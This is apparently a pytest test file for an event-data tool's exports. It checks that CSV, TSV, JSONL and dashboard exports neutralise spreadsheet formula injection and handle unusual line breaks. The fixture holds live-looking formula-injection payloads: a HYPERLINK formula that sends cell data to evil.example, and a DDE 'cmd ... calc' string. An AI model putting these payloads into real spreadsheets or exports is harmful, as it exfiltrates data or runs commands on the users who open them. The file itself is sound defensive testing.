"""Hostile text in every export (#16): safe to open in a spreadsheet, and one row per event whatever the text holds.

The database holds one article written by hand (no model) whose title, source, actor names and sentences start with
``=``, ``+``, ``-`` or ``@`` and whose sentences hold every line break there is (``\\r``, ``\\r\\n``, U+2028, U+0085,
``\\v``, ``\\f``), with a negative longitude and a negative score that must stay numbers. Each writer is read back
with the csv module and pandas: the row count equals the event count, no text cell can start a formula, and the
numbers are numbers.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
from typer.testing import CliRunner

from eventlens.analyse.ingest_flow import IngestFlow
from eventlens.cells import FORMULA_STARTS, neutralise, tsv_cell
from eventlens.cli import app
from eventlens.export import mentions_path, read_plover
from eventlens.export.gdelt import GDELT_COLUMNS, MENTION_COLUMNS
from eventlens.record import ActorRef, Article, ArticleRecord, DateValue, Event, Magnitude, Span
from eventlens.store import Store
from eventlens.web import create_app
from eventlens.web.server import serving

TITLE = '=HYPERLINK("https://evil.example/?d="&A2,"Click me")'
SENTENCES = (
    "@SUM(1+1) was painted on a wall in Kyiv, residents said.\r",
    "Russian forces attacked\u2028Kharkiv on Monday.\x85",
    "Spanish police\vdetained\fprotesters in Madrid on Tuesday.\r\n",
    "-Ukraine accused Russia of shelling the city, officials said.",
)
TEXT = "".join(SENTENCES)
MADRID = {"name": "+Madrid", "geonameid": 3117735, "country": "ESP", "lat": 40.4165, "lon": -3.70256}


def _span(part: str, n: int) -> Span:
    """Where ``part`` stands in sentence ``n``."""
    start = TEXT.index(part, TEXT.index(SENTENCES[n]))
    return Span(start, start + len(part), part)


def _ref(name: str, code: str, words: str, n: int) -> ActorRef:
    span = _span(words, n)
    return ActorRef(name, code, None, words, span.start, span.end)


def _event(n: int, kind: str, quad: str, trigger: str, **more: Any) -> Event:
    return Event(
        id=str(n),
        type=kind,
        mode=None,
        quad=quad,
        actor=more.get("actor"),
        recipient=more.get("recipient"),
        factuality="asserted",
        historical=False,
        date=DateValue("Monday", "2022-03-07", "day", "sentence"),
        location=more.get("location"),
        magnitude=Magnitude(),
        trigger=_span(trigger, n),
        sentence=_span(SENTENCES[n], n),
    )


def hostile_record() -> ArticleRecord:
    events = [
        _event(0, "PROTEST", "verbal_conflict", "painted", actor=_ref("=cmd|' /C calc'!A0", "UKR", "residents", 0)),
        _event(1, "ASSAULT", "material_conflict", "attacked", actor=_ref("-RUS", "RUS", "Russian forces", 1)),
        _event(2, "COERCE", "material_conflict", "detained", actor=_ref("@police", "ESP", "Spanish police", 2),
               location=MADRID),
        _event(3, "ACCUSE", "verbal_conflict", "accused", actor=_ref("\tUkraine", "UKR", "Ukraine", 3),
               recipient=_ref("\rRussia", "RUS", "Russia", 3)),
    ]  # fmt: skip
    article = Article(
        text=TEXT, id="hostile1", title=TITLE, published="2022-03-08", source="@wire", url="https://x.example/a"
    )
    return ArticleRecord(article, events=events)


EVENTS = 4


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile_exports") / "db.duckdb"
    with Store(path) as store:
        IngestFlow(store).add(hostile_record())
    check = CliRunner().invoke(app, ["check", "--db", str(path)])
    assert check.exit_code == 0, check.output
    return path


def cli(*args: str) -> str:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return str(result.stdout)


def assert_csv_safe(text: str, *, numbers: dict[str, float]) -> list[dict[str, Any]]:
    """The CSV's rows (one per event), checked: quoted text cells only, none able to start a formula."""
    # QUOTE_NONNUMERIC: an unquoted cell must be a number (else ValueError); a quoted one stays text.
    rows = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    header, body = rows[0], rows[1:]
    assert len(body) == EVENTS, body
    assert len(pd.read_csv(io.StringIO(text))) == EVENTS
    for row in body:
        assert len(row) == len(header)
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), cell
    found: list[dict[str, Any]] = [dict(zip(header, row, strict=True)) for row in body]
    for column, value in numbers.items():
        assert value in [r[column] for r in found], column  # a float, read unquoted: still a number
        assert pd.read_csv(io.StringIO(text))[column].dtype.kind in "if"
    assert any(isinstance(c, str) and c.startswith("'=HYPERLINK(") for r in body for c in r)
    return found


def test_hostile_cells_are_neutralised_by_one_function() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("\tx") == "'\tx"
    assert neutralise("-3.7") == "'-3.7"  # text is text, even when it looks like a number
    assert neutralise(-3.7) == -3.7 and neutralise(-1) == -1 and neutralise(None) is None
    assert tsv_cell("a\u2028b\x85c\vd\fe\rf\ng\th") == "a b c d e f g h"
    assert tsv_cell(-0.5) == "-0.5" and tsv_cell("-0.5") == "'-0.5" and tsv_cell(True) == "1"


def test_hostile_cli_export_csv_is_safe_and_has_a_row_per_event(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    cli("export", "--db", str(db), "--format", "csv", "-o", str(out))
    rows = assert_csv_safe(out.read_text(encoding="utf-8"), numbers={"location_lon": -3.70256})
    assert {r["actor_name"] for r in rows} >= {"'=cmd|' /C calc'!A0", "'-RUS", "'@police", "'\tUkraine"}


def test_hostile_cli_events_csv_is_safe_and_has_a_row_per_event(db: Path) -> None:
    text = cli("events", "--db", str(db), "--format", "csv")
    rows = assert_csv_safe(text, numbers={"location_lon": -3.70256, "trigger_start": float(TEXT.index("accused"))})
    assert {r["actor_name"] for r in rows} >= {"'=cmd|' /C calc'!A0", "'\tUkraine"}


def test_hostile_gdelt_tsv_has_one_line_per_event_and_no_formula(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "e.tsv"
    cli("export", "--db", str(db), "--format", "gdelt", "-o", str(out))
    for path, columns in ((out, GDELT_COLUMNS), (mentions_path(out), MENTION_COLUMNS)):
        text = path.read_text(encoding="utf-8")
        lines = text.splitlines()  # every break any reader knows: \r, \v, \f, U+0085, U+2028 included
        assert len(lines) == EVENTS
        table = pd.read_csv(io.StringIO(text), sep="\t", header=None, names=list(columns), quoting=csv.QUOTE_NONE)
        assert len(table) == EVENTS
        for line in lines:
            cells = line.split("\t")
            assert len(cells) == len(columns)
            for cell in cells:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only a number may start with "-" (a longitude, a score, a missing offset)
    events = pd.read_csv(out, sep="\t", header=None, names=list(GDELT_COLUMNS), quoting=csv.QUOTE_NONE)
    assert events["ActionGeo_Long"].min() == -3.70256 and events["GoldsteinScale"].min() == -9.0
    assert (events["SOURCEURL"] == "https://x.example/a").all()
    assert set(events["Actor1Name"]) >= {"'-RUS", "'@police"}


def test_hostile_plover_jsonl_reads_back_every_event(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "e.jsonl"
    cli("export", "--db", str(db), "--format", "plover", "-o", str(out))
    raw = out.read_text(encoding="utf-8")
    assert "\u2028" in raw  # written raw (ensure_ascii=False): the reader must split on "\n" only
    assert len(list(read_plover(out))) == EVENTS


@pytest.fixture(scope="module")
def client(db: Path) -> Iterator[httpx.Client]:
    with serving(create_app(db)) as running, httpx.Client(base_url=running.url, trust_env=False, timeout=30) as c:
        yield c


def test_hostile_dashboard_csv_is_safe_and_has_a_row_per_event(client: httpx.Client) -> None:
    response = client.get("/export.csv")
    assert response.status_code == 200
    rows = assert_csv_safe(response.text, numbers={"location_lon": -3.70256, "location_lat": 40.4165})
    assert "'@wire" in {r["article_source"] for r in rows}


def test_hostile_dashboard_json_keeps_the_text_as_it_is(client: httpx.Client) -> None:
    rows = json.loads(client.get("/export.json").content)
    assert len(rows) == EVENTS and {r["article_title"] for r in rows} == {TITLE}  # JSON is data, not a sheet
